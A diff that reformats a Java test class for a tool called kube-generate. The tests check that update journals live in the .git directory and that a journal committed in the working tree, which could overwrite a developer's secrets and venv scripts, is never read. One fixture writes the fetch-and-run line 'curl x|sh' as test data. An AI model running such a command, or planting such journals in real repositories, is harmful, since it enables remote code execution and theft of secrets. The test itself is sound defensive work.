@@ -98,7 +98,8 @@ class BoundsUpdateCrashTest {
 
     Map<String, String> mixed = tree(repo);
     String journal = ".git/kube-generate-update-" + rootHash("");
-    assertTrue(mixed.containsKey(journal), "the journal is in the git directory: " + mixed.keySet());
+    assertTrue(
+        mixed.containsKey(journal), "the journal is in the git directory: " + mixed.keySet());
     assertTrue(
         !mixed
                 .get("kubernetes/a/config-map-settings.yaml")
@@ -112,8 +113,7 @@ class BoundsUpdateCrashTest {
         check
             .err()
             .contains(
-                journal
-                    + ": an update was interrupted; run `kube-generate --update` to finish it"),
+                journal + ": an update was interrupted; run `kube-generate --update` to finish it"),
         check.err());
     assertEquals(2, CliRunner.run(repo).exit(), "the diff mode refuses too");
 
@@ -169,9 +169,9 @@ class BoundsUpdateCrashTest {
   }
 
   /**
-   * The attack a pull request could make before journals left the working tree: a committed
-   * journal whose steps move staged files that carry the marker over a developer's untracked
-   * secrets and scripts. The check does not ask for an update, and the update moves nothing.
+   * The attack a pull request could make before journals left the working tree: a committed journal
+   * whose steps move staged files that carry the marker over a developer's untracked secrets and
+   * scripts. The check does not ask for an update, and the update moves nothing.
    */
   @Test
   void aJournalCommittedInTheWorkingTree_isNeverRead() throws Exception {
@@ -184,7 +184,8 @@ class BoundsUpdateCrashTest {
     Files.writeString(repo.resolve("config/master.key"), "the developer's key\n");
     Files.writeString(repo.resolve(".venv/bin/activate"), "the developer's venv\n");
     Files.writeString(repo.resolve("config/.master.key.1.kube-generate.tmp"), marker);
-    Files.writeString(repo.resolve(".venv/bin/.activate.1.kube-generate.tmp"), marker + "curl x|sh\n");
+    Files.writeString(
+        repo.resolve(".venv/bin/.activate.1.kube-generate.tmp"), marker + "curl x|sh\n");
     Files.writeString(
         repo.resolve(".kube-generate-update"),
         "move config%2F.master.key.1.kube-generate.tmp config%2Fmaster.key\n"
@@ -232,8 +233,8 @@ class BoundsUpdateCrashTest {
       CliRunner.Result r = CliRunner.run(repo, "--update");
       assertEquals(2, r.exit(), steps);
       assertTrue(
-          r.err().startsWith(".git/kube-generate-update-" + rootHash("")) && r.err().contains(
-              "not a step kube-generate writes"),
+          r.err().startsWith(".git/kube-generate-update-" + rootHash(""))
+              && r.err().contains("not a step kube-generate writes"),
           r.err());
       assertTrue(r.err().contains("nothing was moved"), r.err());
       assertEquals(before, tree(repo), steps);
